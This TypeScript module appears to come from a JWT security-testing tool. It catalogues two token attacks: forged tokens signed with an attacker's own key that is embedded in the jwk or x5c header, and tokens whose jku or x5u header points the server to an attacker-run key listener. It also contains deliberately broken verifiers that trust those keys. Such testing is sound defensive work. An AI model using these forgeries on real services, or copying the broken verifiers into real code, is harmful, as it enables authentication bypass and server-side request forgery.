/** Brings the key along, or says where it is to be fetched (RFC 8725 3.10; RFC 7515 4.1.2 to 4.1.6). */

import { createPublicKey, type JsonWebKey, type KeyObject } from 'node:crypto';
import type { CataloguedAttack, Scene } from '../attack.ts';
import type { World } from '../broken/claims.ts';
import { membersOf, readToken, verifiesBy } from '../broken/read-token.ts';
import { open, openedOf } from '../crafted.ts';
import { type Forgery, presentForgeries } from '../forgeries.ts';
import { listen } from '../listener.ts';
import { signedBy } from '../signer.ts';
import { strangersKeys } from '../strangers.ts';
import { claimsOfAdmin, type OpenedToken } from '../token.ts';
import { withoutToken } from '../traits.ts';

const embedded: CataloguedAttack = {
  group: 'tokens',
  name: 'embedded-key',
  title: 'key in the header',
  deed: 'signs with a key of its own and puts that into the header',
  question: 'Does a token bring the key that verifies it?',
  source: 'CVE-2018-0114; RFC 8725 3.10; RFC 7515 4.1.3, 4.1.6',
  inapplicable: withoutToken,
  run(scene, session) {
    const genuine = openedOf(scene, session);
    const forgeries = strangersKeys().flatMap((signer) => {
      const jwk = signer.publicKey.export({ format: 'jwk' });
      const x5c = [signer.publicKey.export({ type: 'spki', format: 'der' }).toString('base64')];
      return forged(genuine, signer, [
        { jwk },
        { jwk: { ...jwk, kid: genuine.header.kid } },
        { x5c },
        { jwk, kid: 'mine' },
      ]);
    });
    return presentForgeries(scene, forgeries);
  },
  broken: {
    algorithm: 'RS256',
    mistake: (careful, world) => ({
      read(token) {
        const jwk = membersOf(token.split('.')[0] ?? '')?.jwk;
        return jwk === undefined ? careful.read(token) : readWith(token, world, jwk as JsonWebKey);
      },
    }),
  },
};

const fetched: CataloguedAttack = {
  group: 'tokens',
  name: 'key-by-address',
  title: 'key fetched from the header',
  deed: 'has the header say where its key is to be fetched',
  question: 'Does a token make the server fetch a key, or anything, from the attacker?',
  source: 'RFC 8725 3.10; RFC 7515 4.1.2, 4.1.5 (jku, x5u); CWE-918',
  inapplicable: withoutToken,
  async run(scene, session) {
    const genuine = openedOf(scene, session);
    const keys = strangersKeys().map(({ publicKey, algorithm }) => ({
      ...publicKey.export({ format: 'jwk' }),
      kid: algorithm,
    }));
    const listener = await listen(() => ({ body: JSON.stringify({ keys }) }));
    try {
      const jku = `${listener.baseUrl}/jwks.json`;
      const forgeries = strangersKeys().flatMap((signer) =>
        forged(genuine, signer, [{ jku, kid: signer.algorithm }, { x5u: jku }, { jku }]),
      );
      const result = await presentForgeries(scene, forgeries);
      return fetchedFrom(scene, listener.heard().length, result);
    } finally {
      await listener.close();
    }
  },
  broken: {
    algorithm: 'RS256',
    mistake: (careful, world) => ({
      async read(token) {
        const header = membersOf(token.split('.')[0] ?? '');
        if (typeof header?.jku !== 'string') return careful.read(token);
        const { keys } = (await (await fetch(header.jku)).json()) as {
          readonly keys: readonly (JsonWebKey & { kid: string })[];
        };
        const key = keys.find(({ kid }) => kid === header.kid);
        return key === undefined ? null : readWith(token, world, key);
      },
    }),
  },
};

/** Also a server that only asks is open: the attacker has it send requests. */
function fetchedFrom(_scene: Scene, requests: number, result: Awaited<ReturnType<typeof presentForgeries>>) {
  const evidence = `${result.evidence}; the attacker's server was asked ${requests} times`;
  return { outcome: requests === 0 ? result.outcome : open, evidence };
}

type StrangersKey = ReturnType<typeof strangersKeys>[number];

function forged(
  genuine: OpenedToken,
  signer: StrangersKey,
  brought: readonly Readonly<Record<string, unknown>>[],
): Forgery[] {
  return brought.map((members) => ({
    token: signedBy(signer, { ...genuine.header, alg: signer.algorithm, ...members }, claimsOfAdmin(genuine)),
    what: `signed by a stranger's ${signer.algorithm} key, with ${Object.keys(members).join(' and ')} of its own`,
  }));
}

function readWith(token: string, world: World, jwk: JsonWebKey) {
  const key: KeyObject = createPublicKey({ key: jwk, format: 'jwk' });
  if (key.asymmetricKeyType !== 'rsa') return null;
  return readToken(token, {
    world,
    algorithm: 'RS256',
    without: ['key', 'header'],
    verifies: (_header, input, signature) => verifiesBy(key, 'RS256', input, signature),
  });
}

export const broughtKeys: readonly CataloguedAttack[] = [embedded, fetched];
